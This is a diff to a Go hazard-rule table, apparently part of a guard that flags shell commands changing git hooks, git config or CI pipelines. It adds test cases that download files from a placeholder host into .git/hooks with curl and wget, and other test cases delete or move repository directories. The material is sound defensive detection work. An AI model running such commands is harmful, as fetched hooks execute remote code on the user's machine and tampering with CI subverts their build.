@@ -38,7 +38,7 @@ func changeRules() []hazard.Rule {
 			Why:     "changes what git or the build service runs",
 			Instead: "Show the user the change to the hook, the configuration or the pipeline, and ask.",
 			Match:   changes("git-hook git-config ci-config"),
-			Hit:     []string{"cp hook .git/hooks/pre-commit", "chmod +x .git/hooks/pre-push", "cat > .github/workflows/ci.yml <<'EOF'\non: push\nEOF", "sed -i s/a/b/ .gitlab-ci.yml", "echo '[core]' >> .git/config", "rm -r .github", "mv .git /tmp/git", "echo x >> ~/.gitconfig", "cd .git && echo y > hooks/update"},
+			Hit:     []string{"cp hook .git/hooks/pre-commit", "chmod +x .git/hooks/pre-push", "cat > .github/workflows/ci.yml <<'EOF'\non: push\nEOF", "sed -i s/a/b/ .gitlab-ci.yml", "echo '[core]' >> .git/config", "rm -r .github", "mv .git /tmp/git", "echo x >> ~/.gitconfig", "cd .git && echo y > hooks/update", "cd .git/hooks && curl -sO https://h.example/pre-commit", "cd .git/hooks && wget https://h.example/pre-push"},
 			Miss:    []string{"cat .github/workflows/ci.yml", "rm .git/index.lock", "echo '*.log' >> .gitignore", "cp .git/config config.bak", "sed -n 1,5p .gitlab-ci.yml", "git add .github/workflows/ci.yml"},
 		},
 		{
